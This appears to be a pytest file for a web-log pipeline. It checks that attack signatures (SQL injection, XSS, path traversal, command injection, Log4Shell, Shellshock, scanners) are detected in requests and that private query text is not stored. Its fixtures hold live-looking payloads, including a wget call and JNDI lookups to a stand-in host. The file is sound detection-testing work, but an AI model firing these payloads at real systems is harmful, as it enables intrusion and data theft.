"""Signatures of attacks: what they fit, what they leave alone, and that nobody's query is kept."""

import polars as pl
import pytest

from pipeline import attacks
from pipeline.formats import resolve
from pipeline.logfile import Declared
from pipeline.look import look
from pipeline.parts import make
from pipeline.privacy import Tokens

FITS = [
    ("target", "/nota?id=1%27%20OR%20%271%27=%271", "sqli"),
    ("target", "/nota?id=1+UNION+ALL+SELECT+user(),2", "sqli"),
    ("target", "/nota?id=1/**/union/**/select/**/1", "sqli"),
    ("target", "/nota?id=1%2527%2520or%25201", "sqli"),
    ("target", "/nota?id=sleep(5)", "sqli"),
    ("target", "/b?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
    ("target", "/b?q=%22%20onerror%3Dalert(1)", "xss"),
    ("target", "/b?u=javascript:alert(1)", "xss"),
    ("target", "/../../../etc/passwd", "traversal"),
    ("target", "/static/%2e%2e/%2e%2e/windows/win.ini", "traversal"),
    ("target", "/media/..%252f..%252fboot.ini", "traversal"),
    ("target", "/?page=php://input", "traversal"),
    ("target", "/cgi?host=;wget+http://x.example/a", "command"),
    ("target", "/a?x=$(whoami)", "command"),
    ("target", "/$%7Bjndi:ldap://x.example/a%7D", "log4shell"),
    ("target", "/?x=${${lower:j}ndi:dns://x.example}", "log4shell"),
    ("agent", "${jndi:rmi://x.example/a}", "log4shell"),
    ("agent", "() { :; }; /bin/bash -c id", "shellshock"),
    ("agent", "sqlmap/1.7#stable (https://sqlmap.org)", "scanner"),
    ("referer", "https://x.example/?q=<script>", "xss"),
    ("target", "/wp-content/plugins/revslider/temp/update.php", "probe"),
]
LEFT_ALONE = [
    ("target", "/"),
    ("target", "/politica/union-y-select-comite"),
    ("target", "/buscar?q=uni%C3%B3n+europea"),
    ("target", "/nota?t=Pe%C3%B1a+y+O%27Higgins"),
    ("target", "/nota?q=%27para+ti%27+o+para+m%C3%AD"),
    ("target", "/maps/api.js?onload=listo&render=explicit"),
    ("target", "/a/../b.css"),
    ("target", "/gato?x=cat&y=1;id=4"),
    ("target", "/precio?d=$100"),
    ("target", "/descripcion/script-de-cine"),
    ("target", "/wp-content/plugins/galeria/ajax.php"),
    ("target", "/json/main.json?rand=0.11&fbclid=IwAR0%2b"),
    ("agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/113.0.0.0"),
    ("agent", "Mozilla/5.0 (Linux; Android 11) [FB_IAB/FB4A;FBAV/417.0.0.33.65;]"),
    ("referer", "https://l.facebook.com/l.php?u=https%3A%2F%2Fx.example%2F&h=AT1"),
    ("referer", "/etc/passwd"),
]


@pytest.mark.parametrize(("field", "text", "name"), FITS)
def test_a_signature_fits(field, text, name):
    assert attacks.signature_of(field, pl.Series([text])).to_list() == [name]


def test_ordinary_requests_fit_none():
    for field, text in LEFT_ALONE:
        assert attacks.signature_of(field, pl.Series([text])).to_list() == [None], text


def test_nothing_is_null_and_the_texts_stay_as_they_were():
    texts = pl.Series(["/%27+or+1", None, "", "/a%2", "/\udcff".encode(errors="replace").decode()])
    before = texts.to_list()
    assert attacks.signature_of("target", texts).to_list() == ["sqli", None, None, None, None]
    assert texts.to_list() == before
    assert attacks.signature_of("vhost", texts).to_list() == [None] * 5
    assert attacks.signature_of("target", pl.Series([], dtype=pl.String)).to_list() == []


def test_the_first_that_fits_names_the_request():
    both = pl.Series(["/?x=${jndi:ldap://a}&y=<script>"])
    assert attacks.signature_of("target", both).to_list() == ["log4shell"]


def test_every_signature_says_what_it_is():
    found = attacks.signatures()
    assert len({item.name for item in found}) == len(found)
    for item in found:
        assert item.means
        assert item.source
        assert item.fields
        assert set(item.fields) <= {"target", "referer", "agent"}
        assert not {" ", "="} & set(item.name)


def test_only_the_name_is_kept_of_a_request_that_fits(tmp_path):
    log = tmp_path / "log"
    line = '192.0.2.{} - - [04/Jun/2023:18:00:00 -0600] "GET {} HTTP/1.1" 404 5 "{}" "{}"\n'
    log.write_text(
        line.format(1, "/a?id=secreto%27+or+1=1", "-", "Mozilla/5.0")
        + line.format(2, "/b", "-", "Mozilla/5.0")
        + line.format(3, "/c", "https://x.example/?q=<script>confidencial", "Mozilla/5.0")
        + line.format(4, "/d", "-", "sqlmap/1.7")
    )
    shelf = tmp_path / "partes"
    shelf.mkdir()
    (part,) = make(
        look(log, "log", Declared(format=resolve("combined"))).logs, Tokens(b"k" * 32), shelf
    )
    (kept,) = part.folder.glob("attack-*.parquet")
    assert pl.read_parquet(kept).rows() == [(1, "sqli"), (3, "xss"), (4, "scanner")]
    for file in part.folder.glob("*.parquet"):
        text = str(pl.read_parquet(file).to_dicts())
        assert "secreto" not in text
        assert "confidencial" not in text
